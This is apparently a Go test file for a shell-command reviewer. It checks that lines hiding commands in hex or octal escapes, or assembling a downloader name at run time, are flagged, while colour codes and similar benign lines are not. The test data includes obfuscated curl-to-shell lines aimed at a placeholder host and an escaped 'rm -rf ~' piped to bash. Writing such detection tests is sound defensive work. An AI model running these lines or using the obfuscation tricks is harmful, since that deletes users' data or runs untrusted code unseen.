package review

import "testing"

// Wave 17: a command spelled in character escapes and then run, and a
// downloader whose name is put together at run time, are what the plain
// spellings are. Lines a real script writes (colour codes, printf formats,
// a variable-named tool whose output is not run) are not.
func TestEscapeSpelledAndAssembledCommandsRun(t *testing.T) {
	for line, want := range map[string]string{
		`eval "$(printf "\x63\x75\x72\x6c -s https://e.example/x")"`: decodeExecWhat,
		`eval "$(echo -e '\143\165\162\154 https://e.example')"`:     decodeExecWhat,
		`sh -c $'\x63\x75\x72\x6c -s https://e.example | sh'`:        decodeExecWhat,
		`bash -c $'\143\165\162\154 x'`:                              decodeExecWhat,
		`printf '\x63\x75\x72\x6c -s https://e.example' | sh`:        decodeExecWhat,
		`echo -e "\x72\x6d\x20-rf ~" | bash -`:                       decodeExecWhat,
		`exec("\x69\x6d\x70\x6f\x72\x74 os")`:                        decodeExecWhat,
		`c=cu; d=rl; $c$d -s https://e.example/y | python3 -`:        "downloads code and runs it unseen",
		`"$DL" -fsSL https://e.example/install.sh | bash`:            "downloads code and runs it unseen",
		`${FETCH} https://e.example/i | sudo sh`:                     "downloads code and runs it unseen",

		`printf '\033[1;31m%s\033[0m\n' "$msg"`:                   "",
		`printf '%s\n' "$x" | sh -n`:                              "",
		`eval "$(ssh-agent -s)"`:                                  "",
		`eval "$(printf '%s\n' "$cmd")"`:                          "",
		`echo -e "\x1b[32mok\x1b[0m"`:                             "",
		`printf '\x1b\x5b\x33\x32m' > /dev/tty`:                   "",
		`$DL https://e.example/x.tar.gz | tar xz`:                 "",
		`"$PYTHON" https://e.example/data.json | python3 tool.py`: "",
		`$CURL -s https://e.example/a | python3 -c "import json"`: "",
	} {
		got := remoteExecIn(line)
		if got == "" {
			got = decodeExecIn(line)
		}
		if got != want {
			t.Errorf("%s: %q, want %q", line, got, want)
		}
	}
}
